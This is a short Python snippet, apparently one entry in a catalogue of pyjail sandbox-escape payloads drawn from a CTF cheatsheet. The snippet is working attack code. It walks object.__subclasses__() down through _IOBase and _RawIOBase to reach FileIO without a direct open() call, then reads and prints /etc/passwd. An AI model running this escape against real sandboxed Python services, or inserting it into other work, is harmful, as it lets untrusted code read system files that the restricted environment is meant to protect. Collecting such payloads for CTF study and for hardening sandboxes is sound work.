# Source: github.com/Shirajuki/shirajuki.github.io src/routes/blog/pyjail-cheatsheet.md (_io._IOBase -> _RawIOBase -> FileIO)
# Family: subclass-walk
# What: reaches _io.FileIO through _IOBase subclasses and reads a file
base = ().__class__.__mro__[1]
iob = [c for c in base.__subclasses__() if c.__name__ == "_IOBase"][0]
raw = [c for c in iob.__subclasses__() if c.__name__ == "_RawIOBase"][0]
fio = [c for c in raw.__subclasses__() if c.__name__ == "FileIO"][0]
print(fio("/etc/passwd").read())
